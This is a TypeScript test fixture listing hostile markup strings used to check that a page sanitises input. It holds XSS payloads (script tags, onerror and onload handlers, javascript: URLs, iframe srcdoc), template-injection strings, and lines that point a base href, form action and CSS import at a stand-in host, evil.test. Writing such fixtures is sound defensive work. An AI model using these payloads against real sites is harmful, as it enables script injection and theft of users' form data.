/** Texts that try to run `hacked()`, which the tests define on the page. Short enough for a name. */
export const hostileMarkup: string[] = [
  '<script>hacked()</script>',
  '<img src=x onerror=hacked()>',
  '"><svg/onload=hacked()>',
  `'><body onload='hacked()'>`,
  '</title></textarea><script>hacked()</script>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<a href="javascript:hacked()">javascript:hacked()</a>',
  '<style>@import"//evil.test";*{background:url(//evil.test)}</style>',
  '<base href=//evil.test><form action=//evil.test><button>Entrar</button>',
  '<details open ontoggle=hacked()><math><mi xlink:href="data:x,<script>hacked()</script>">',
  '{{constructor.constructor("hacked()")()}} #{hacked()} <%= hacked() %>',
  '&lt;script&gt;hacked()&lt;/script&gt; \\u003cimg onerror=hacked()\\u003e',
];
